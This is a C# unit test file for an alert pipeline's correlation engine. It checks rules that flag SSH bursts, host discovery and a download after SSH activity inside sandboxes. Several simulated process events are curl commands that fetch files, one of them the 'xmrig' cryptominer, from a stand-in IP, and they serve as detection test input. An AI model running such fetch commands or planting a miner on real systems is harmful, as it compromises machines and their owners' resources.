using AlertPipeline.Core.Detect;
using AlertPipeline.Core.Detect.Correlation;
using AlertPipeline.Core.Respond;
using Microsoft.Extensions.Time.Testing;

namespace AlertPipeline.Core.Tests.Detect.Correlation;

public sealed class CorrelationEngineTests
{
    private static readonly string[] BurstRules = [CorrelationRules.Ssh, CorrelationRules.EventCount(gte: 5)];

    [Fact]
    public async Task Event_count_fires_once_per_burst_with_its_group_window_and_count()
    {
        var harness = new CorrelationHarness(BurstRules);
        var events = Enumerable.Range(0, 6).Select(i => ((long)i, CorrelationHarness.Connection(i * 10, "sbx-1", "203.0.113.9", 22)));
        await CorrelationHarness.SendAsync(harness.NewInstance(), "p0", events);

        var alert = Assert.Single(await harness.AlertsOfAsync(CorrelationRules.BurstId));
        Assert.Equal("sbx-1", alert.SandboxId);
        Assert.Equal(6, alert.EventCount);
        Assert.Equal(AlertLevel.High, alert.Level);
        Assert.Equal("sandbox.id=sbx-1", alert.Evidence["correlation.group"]);
        Assert.Equal("event_count", alert.Evidence["correlation.type"]);
        Assert.Equal(CorrelationHarness.T0, alert.FirstSeen);
        Assert.Equal(CorrelationHarness.T0.AddSeconds(50), alert.LastSeen);

        // generate: false (the default): the SSH rule only feeds the correlation.
        Assert.Empty(await harness.AlertsOfAsync(CorrelationRules.SshId));
    }

    [Fact]
    public async Task Generate_true_keeps_the_referenced_rule_alerting_on_its_own()
    {
        var harness = new CorrelationHarness([CorrelationRules.Ssh, CorrelationRules.EventCount(gte: 5, generate: true)]);
        await CorrelationHarness.SendAsync(harness.NewInstance(), "p0", [(0, CorrelationHarness.Connection(0, "sbx-1", "203.0.113.9", 22))]);

        Assert.Single(await harness.AlertsOfAsync(CorrelationRules.SshId));
        Assert.Empty(await harness.AlertsOfAsync(CorrelationRules.BurstId));
    }

    [Theory]
    [InlineData(new[] { 0, 10, 20, 30 }, new[] { "sbx-1", "sbx-1", "sbx-1", "sbx-1" })] // four, one short
    [InlineData(new[] { 0, 25, 50, 75, 100, 125 }, new[] { "sbx-1", "sbx-1", "sbx-1", "sbx-1", "sbx-1", "sbx-1" })] // six, never five in a minute
    [InlineData(new[] { 0, 5, 10, 15, 20, 25 }, new[] { "sbx-1", "sbx-2", "sbx-1", "sbx-2", "sbx-1", "sbx-2" })] // six, but three per sandbox
    public async Task Event_count_stays_silent_when_no_window_of_one_group_reaches_the_threshold(int[] seconds, string[] sandboxes)
    {
        var harness = new CorrelationHarness(BurstRules);
        var events = seconds.Select((s, i) => ((long)i, CorrelationHarness.Connection(s, sandboxes[i], "203.0.113.9", 22)));
        await CorrelationHarness.SendAsync(harness.NewInstance(), "p0", events);

        Assert.Empty(await harness.AlertsOfAsync(CorrelationRules.BurstId));
    }

    [Theory]
    [InlineData(CorrelationConsistency.Delivery.OneBatch)]
    [InlineData(CorrelationConsistency.Delivery.BatchPerEvent)]
    [InlineData(CorrelationConsistency.Delivery.TwoInstances)]
    [InlineData(CorrelationConsistency.Delivery.Restart)]
    public async Task Counts_are_the_same_however_the_events_are_delivered(CorrelationConsistency.Delivery delivery)
    {
        var alerts = await CorrelationConsistency.RunAsync(delivery, new InMemoryCorrelationStateStore());
        CorrelationConsistency.AssertExpected(alerts);
    }

    [Fact]
    public async Task A_redelivered_batch_counts_nothing_twice_and_writes_nothing()
    {
        var store = new CountingStateStore(new InMemoryCorrelationStateStore());
        var harness = new CorrelationHarness(BurstRules, store);
        var pipeline = harness.NewInstance();
        var events = Enumerable.Range(0, 7).Select(i => ((long)i, CorrelationHarness.Connection(i, "sbx-1", "203.0.113.9", 22))).ToList();
        await CorrelationHarness.SendAsync(pipeline, "p0", events);
        var writes = store.Writes;

        await CorrelationHarness.SendAsync(pipeline, "p0", events);

        Assert.Equal(7, Assert.Single(await harness.AlertsOfAsync(CorrelationRules.BurstId)).EventCount);
        Assert.Equal(writes, store.Writes);
    }

    [Fact]
    public async Task Storage_operations_grow_with_groups_touched_not_with_events()
    {
        var store = new CountingStateStore(new InMemoryCorrelationStateStore());
        var harness = new CorrelationHarness(BurstRules, store);
        var events = Enumerable.Range(0, 300).Select(i => ((long)i, CorrelationHarness.Connection(i % 50, $"sbx-{i % 3}", "203.0.113.9", 22)));

        await CorrelationHarness.SendAsync(harness.NewInstance(), "p0", events);

        Assert.Equal(3, store.Reads);
        Assert.Equal(3, store.Writes);
        Assert.Equal(3, (await harness.AlertsOfAsync(CorrelationRules.BurstId)).Count);
    }

    [Fact]
    public async Task Value_count_counts_distinct_values_not_events()
    {
        var harness = new CorrelationHarness([CorrelationRules.Internal, CorrelationRules.ValueCount(gte: 10)]);
        var pipeline = harness.NewInstance();

        // Twenty connections to three internal hosts: busy, not discovery.
        await CorrelationHarness.SendAsync(pipeline, "p0", Enumerable.Range(0, 20).Select(i => ((long)i, CorrelationHarness.Connection(i, "sbx-1", $"10.0.0.{i % 3}", 5432))));
        Assert.Empty(await harness.AlertsOfAsync(CorrelationRules.DiscoveryId));

        // Twelve distinct hosts within the minute: discovery.
        await CorrelationHarness.SendAsync(pipeline, "p1", Enumerable.Range(0, 12).Select(i => ((long)i, CorrelationHarness.Connection(30 + i, "sbx-2", $"10.0.1.{i}", 22))));
        var alert = Assert.Single(await harness.AlertsOfAsync(CorrelationRules.DiscoveryId));
        Assert.Equal("sbx-2", alert.SandboxId);
        Assert.Equal(12, alert.EventCount);
    }

    [Fact]
    public async Task Temporal_ordered_requires_the_order_and_temporal_does_not()
    {
        var harness = new CorrelationHarness([CorrelationRules.Ssh, CorrelationRules.Download, CorrelationRules.Ordered, CorrelationRules.Temporal]);
        var pipeline = harness.NewInstance();
        await CorrelationHarness.SendAsync(pipeline, "p0",
        [
            (0, CorrelationHarness.Process(0, "in-order", "curl -sO http://198.51.100.4/x")),
            (1, CorrelationHarness.Connection(60, "in-order", "198.51.100.4", 22)),
            (2, CorrelationHarness.Connection(0, "reversed", "198.51.100.4", 22)),
            (3, CorrelationHarness.Process(60, "reversed", "curl -sO http://198.51.100.4/x")),
            (4, CorrelationHarness.Process(0, "too-far", "curl -sO http://198.51.100.4/x")),
            (5, CorrelationHarness.Connection(301, "too-far", "198.51.100.4", 22)),
        ]);

        Assert.Equal(["in-order"], (await harness.AlertsOfAsync(CorrelationRules.OrderedId)).Select(a => a.SandboxId));
        Assert.Equal(["in-order", "reversed"], (await harness.AlertsOfAsync(CorrelationRules.TemporalId)).Select(a => a.SandboxId).Order());
    }

    [Theory]
    [InlineData(300, true)] // 44 s late, lateness 5 min: counted
    [InlineData(10, false)] // 44 s late, lateness 10 s: dropped
    public async Task A_late_event_counts_only_within_the_allowed_lateness(int latenessSeconds, bool fires)
    {
        var harness = new CorrelationHarness(BurstRules, options: new CorrelationOptions { Lateness = TimeSpan.FromSeconds(latenessSeconds) });
        var pipeline = harness.NewInstance();
        await CorrelationHarness.SendAsync(pipeline, "p0", Enumerable.Range(0, 4).Select(i => ((long)i, CorrelationHarness.Connection(100 + i, "sbx-1", "203.0.113.9", 22))));
        Assert.Empty(await harness.AlertsOfAsync(CorrelationRules.BurstId));

        await CorrelationHarness.SendAsync(pipeline, "p1", [(0, CorrelationHarness.Connection(60, "sbx-1", "203.0.113.9", 22))]);

        Assert.Equal(fires ? 1 : 0, (await harness.AlertsOfAsync(CorrelationRules.BurstId)).Count);
    }

    [Fact]
    public async Task An_upper_bound_is_judged_when_the_fixed_window_has_closed()
    {
        var harness = new CorrelationHarness([CorrelationRules.Ssh, CorrelationRules.Quiet]);
        var pipeline = harness.NewInstance();
        await CorrelationHarness.SendAsync(pipeline, "p0",
        [
            (0, CorrelationHarness.Connection(5, "sbx-1", "203.0.113.9", 22)),
            (1, CorrelationHarness.Connection(30, "sbx-1", "203.0.113.9", 22)),
            (2, CorrelationHarness.Connection(5, "sbx-2", "203.0.113.9", 22)),
            (3, CorrelationHarness.Connection(10, "sbx-2", "203.0.113.9", 22)),
            (4, CorrelationHarness.Connection(15, "sbx-2", "203.0.113.9", 22)),
        ]);
        Assert.Empty(await harness.AlertsOfAsync(CorrelationRules.QuietId)); // the minute could still grow

        // An event of sbx-1 beyond the minute plus the lateness closes its first minute: two is fewer than three.
        await CorrelationHarness.SendAsync(pipeline, "p0", [(5, CorrelationHarness.Connection(60 * 7, "sbx-1", "203.0.113.9", 22))]);
        var alert = Assert.Single(await harness.AlertsOfAsync(CorrelationRules.QuietId));
        Assert.Equal(("sbx-1", 2L), (alert.SandboxId, alert.EventCount));
    }

    [Fact]
    public async Task The_sweep_judges_windows_that_closed_in_silence_and_deletes_expired_state()
    {
        var store = new InMemoryCorrelationStateStore();
        var harness = new CorrelationHarness([CorrelationRules.Ssh, CorrelationRules.Quiet], store);
        var clock = new FakeTimeProvider(CorrelationHarness.T0.AddSeconds(40));
        var pipeline = harness.NewInstance(clock);
        await CorrelationHarness.SendAsync(pipeline, "p0",
        [
            (0, CorrelationHarness.Connection(5, "sbx-1", "203.0.113.9", 22)),
            (1, CorrelationHarness.Connection(30, "sbx-1", "203.0.113.9", 22)),
        ]);
        Assert.Empty(await pipeline.SweepCorrelationsAsync(CancellationToken.None)); // minute not closed yet
        Assert.Equal(1, store.Count);

        clock.Advance(TimeSpan.FromMinutes(7));
        var swept = Assert.Single(await pipeline.SweepCorrelationsAsync(CancellationToken.None));
        Assert.Equal((CorrelationRules.QuietId, 2L), (swept.RuleId, swept.EventCount));

        clock.Advance(TimeSpan.FromMinutes(30));
        await pipeline.SweepCorrelationsAsync(CancellationToken.None);
        Assert.Equal(0, store.Count);
        Assert.Single(await harness.AlertsOfAsync(CorrelationRules.QuietId)); // judged once
    }

    [Fact]
    public async Task A_correlation_can_read_another_correlation()
    {
        const string burstThenDownload = """
            title: SSH burst followed by a download
            id: 6f2a9b51-1c1e-4d7a-9a43-0f7d7c1e5a09
            correlation:
              type: temporal_ordered
              rules:
                - ssh_burst
                - download
              group-by:
                - sandbox.id
              timespan: 10m
            level: critical
            """;
        var inner = CorrelationRules.EventCount(gte: 3).Replace("title: Burst of SSH connections", "title: Burst of SSH connections\nname: ssh_burst", StringComparison.Ordinal);
        var harness = new CorrelationHarness([CorrelationRules.Ssh, CorrelationRules.Download, inner, burstThenDownload]);
        var pipeline = harness.NewInstance();
        await CorrelationHarness.SendAsync(pipeline, "p0", Enumerable.Range(0, 3).Select(i => ((long)i, CorrelationHarness.Connection(i, "sbx-1", "203.0.113.9", 22))));
        await CorrelationHarness.SendAsync(pipeline, "p0", [(3, CorrelationHarness.Process(120, "sbx-1", "curl -O http://198.51.100.4/xmrig"))]);

        var alert = Assert.Single(await harness.AlertsOfAsync("6f2a9b51-1c1e-4d7a-9a43-0f7d7c1e5a09"));
        Assert.Equal((AlertLevel.Critical, "sbx-1"), (alert.Level, alert.SandboxId));

        // The inner burst only feeds the outer correlation (generate defaults to false).
        Assert.Empty(await harness.AlertsOfAsync(CorrelationRules.BurstId));
    }

    [Fact]
    public async Task State_written_for_an_earlier_version_of_the_rule_is_discarded()
    {
        var store = new InMemoryCorrelationStateStore();
        var first = new CorrelationHarness([CorrelationRules.Ssh, CorrelationRules.EventCount(gte: 5, timespan: "1m")], store);
        await CorrelationHarness.SendAsync(first.NewInstance(), "p0", Enumerable.Range(0, 4).Select(i => ((long)i, CorrelationHarness.Connection(i, "sbx-1", "203.0.113.9", 22))));

        // The operator widens the window: four old entries must not be read under the new meaning.
        var second = new CorrelationHarness([CorrelationRules.Ssh, CorrelationRules.EventCount(gte: 5, timespan: "2m")], store);
        await CorrelationHarness.SendAsync(second.NewInstance(), "p0", [(4, CorrelationHarness.Connection(5, "sbx-1", "203.0.113.9", 22))]);

        Assert.Empty(await second.AlertsOfAsync(CorrelationRules.BurstId));
    }

    /// <summary>Counts store calls, to show what a batch costs.</summary>
    private sealed class CountingStateStore(ICorrelationStateStore inner) : ICorrelationStateStore
    {
        public int Reads { get; private set; }

        public int Writes { get; private set; }

        public Task<CorrelationState?> GetAsync(string ruleId, string groupKey, CancellationToken cancellationToken)
        {
            Reads++;
            return inner.GetAsync(ruleId, groupKey, cancellationToken);
        }

        public Task<bool> TryWriteAsync(CorrelationState state, CancellationToken cancellationToken)
        {
            Writes++;
            return inner.TryWriteAsync(state, cancellationToken);
        }

        public IAsyncEnumerable<CorrelationState> ListAsync(string ruleId, CancellationToken cancellationToken) => inner.ListAsync(ruleId, cancellationToken);

        public IAsyncEnumerable<CorrelationState> ListExpiredAsync(DateTimeOffset now, CancellationToken cancellationToken) => inner.ListExpiredAsync(now, cancellationToken);

        public Task<bool> TryDeleteAsync(CorrelationState state, CancellationToken cancellationToken) => inner.TryDeleteAsync(state, cancellationToken);
    }
}
